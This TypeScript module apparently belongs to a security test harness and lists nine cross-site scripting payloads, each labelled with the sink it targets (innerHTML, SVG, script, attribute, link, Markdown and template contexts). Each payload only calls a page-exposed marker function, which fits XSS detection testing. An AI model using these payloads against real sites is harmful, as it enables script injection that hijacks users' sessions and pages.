import { binding } from '../../harness/hostile-name.ts';

export { binding };

/** Markup that calls the page's exposed function where it becomes part of the page. */
export interface XssPayload {
  readonly id: string;
  /** The sink that it is made for. */
  readonly sink: string;
  text(marker: string): string;
}

const call = (marker: string) => `${binding}('${marker}')`;

export const payloads: readonly XssPayload[] = [
  { id: 'element', sink: 'innerHTML', text: (marker) => `<img src=x onerror="${call(marker)}">` },
  {
    id: 'svg',
    sink: 'innerHTML behind a filter of <img>',
    text: (marker) => `<svg><animate onbegin=${call(marker)} attributeName=x dur=1s>`,
  },
  {
    id: 'script',
    sink: 'a page made on the server, or JSON inside a script',
    text: (marker) => `</script><script>${call(marker)}</script>`,
  },
  {
    id: 'title',
    sink: 'a title or a text area',
    text: (marker) => `</title></textarea><img src=x onerror=${call(marker)}>`,
  },
  {
    id: 'double-quoted',
    sink: 'an attribute in "…"',
    text: (marker) => `"><img src=x onerror=${call(marker)}><a title="`,
  },
  {
    id: 'single-quoted',
    sink: "an attribute in '…'",
    text: (marker) => `'><img src=x onerror=${binding}(\`${marker}\`)><a title='`,
  },
  {
    id: 'link',
    sink: 'text that is made into links',
    text: (marker) => `javascript:${call(marker)}//https://example.org`,
  },
  {
    id: 'markdown',
    sink: 'Markdown',
    text: (marker) => `[a prize](javascript:${call(marker).replaceAll('(', '%28').replaceAll(')', '%29')})`,
  },
  {
    id: 'template',
    sink: 'a client-side template',
    text: (marker) => `{{constructor.constructor("${call(marker)}")()}}`,
  },
];
